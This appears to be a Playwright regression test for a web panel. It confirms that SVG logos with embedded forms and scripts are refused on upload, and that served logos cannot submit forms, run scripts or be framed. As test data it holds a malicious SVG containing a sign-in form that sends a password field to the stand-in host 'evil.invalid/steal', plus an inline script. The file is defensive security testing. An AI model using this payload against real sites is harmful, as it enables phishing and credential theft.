import { test, expect } from './support/fixtures';
import { API_ORIGIN } from './support/env';
import { routes } from './support/routes';

/**
 * Issue 36, finding 6, in Chromium: an SVG logo with a `<foreignObject><form>` rendered a working
 * sign-in form on the api's origin. Now the upload is refused in the panel with its Indonesian
 * message, and a logo served with the api's own headers runs nothing, submits no form and cannot
 * be framed by another page.
 */

const REFUSED =
  'Logo SVG hanya boleh berisi gambar: skrip, foreignObject, tautan ke luar, dan atribut peristiwa tidak diizinkan.';
const EVIL = 'http://evil.invalid';
const FORM_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="200"><foreignObject width="400" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="${EVIL}/steal" method="get"><input name="password" value="rahasia"/><button id="masuk" type="submit">Masuk</button></form></foreignObject><script>document.title = 'ran'</script></svg>`;

test.describe('logos cannot act', () => {
  test('the panel refuses the SVG with a form, saying why', async ({ page, openSignedIn }) => {
    await openSignedIn(routes.addApp);
    await expect(page.getByRole('heading', { level: 1, name: 'Tambah Aplikasi' })).toBeVisible();
    await page
      .getByTestId('logo-file')
      .setInputFiles({ name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(FORM_SVG) });
    await expect(page.getByRole('alert').filter({ hasText: REFUSED })).toBeVisible();
    await expect(page.getByRole('img', { name: 'Pratinjau logo' })).toHaveCount(0);
  });

  test('served with the api headers, the SVG form submits nothing and runs no script', async ({
    page,
    request,
  }) => {
    // The api's real answer for a logo: its headers, with the probe's body in place of the drawing.
    const real = await request.get(`${API_ORIGIN}/static/logos/app-1.svg`);
    expect(real.headers()['content-security-policy']).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; frame-ancestors 'none'; sandbox",
    );
    expect(real.headers()['content-disposition']).toBe('inline');
    const evilRequests: string[] = [];
    await page.route(`${EVIL}/**`, async (route) => {
      evilRequests.push(route.request().url());
      await route.abort();
    });
    await page.route(`${API_ORIGIN}/static/logos/probe.svg`, (route) =>
      route.fulfill({ status: 200, headers: real.headers(), body: FORM_SVG }),
    );
    await page.goto(`${API_ORIGIN}/static/logos/probe.svg`);
    const button = page.locator('#masuk');
    await expect(button).toBeVisible();
    await button.click();
    await page.waitForTimeout(500);
    expect(evilRequests).toEqual([]);
    expect(page.url()).toBe(`${API_ORIGIN}/static/logos/probe.svg`);
    expect(await page.title()).not.toBe('ran');
  });

  test('another page cannot frame a logo', async ({ browser }) => {
    // A page of another site, without a policy of its own (the panel's own CSP would refuse the frame first).
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const refused = page.waitForEvent('console', (message) => /frame-ancestors/i.test(message.text()));
      await page.setContent(`<iframe id="logo" src="${API_ORIGIN}/static/logos/app-1.svg"></iframe>`);
      expect((await refused).text()).toContain("frame-ancestors 'none'");
      const frame = page.frames().find((f) => f !== page.mainFrame());
      const shown = await frame?.evaluate(() => document.querySelector('svg') !== null).catch(() => false);
      expect(shown ?? false).toBe(false);
    } finally {
      await context.close();
    }
  });
});
